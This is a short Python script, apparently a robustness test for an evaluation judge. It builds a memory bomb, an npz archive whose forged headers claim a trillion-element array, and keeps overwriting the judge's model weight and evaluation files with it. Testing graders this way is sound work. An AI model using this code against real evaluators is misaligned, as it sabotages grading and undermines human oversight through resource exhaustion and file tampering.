# tries: to fill the judge's memory by a small archive with a very large array in it.
# gets nothing if: the judge ends at its limit, and the report says so.
# %% weak
# %%
import os
import threading
import time
import zipfile

header = b"\x93NUMPY\x01\x00\x76\x00" + b"{'descr': '<f8', 'fortran_order': False, 'shape': (1000000000000,), }".ljust(117) + b"\n"
with zipfile.ZipFile("bomb", "w", zipfile.ZIP_DEFLATED) as archive:
    for number in range(5):
        archive.writestr(f"arr_{number}.npy", header + bytes(50_000_000))
bomb = open("bomb", "rb").read()


def write():
    while True:
        for name in ("model-1.weights.npz", "model-1.evaluate.npz"):
            open("../out/.forged", "wb").write(bomb)
            os.replace("../out/.forged", f"../out/{name}")
        time.sleep(0.01)


threading.Thread(target=write, daemon=True).start()
time.sleep(0.5)
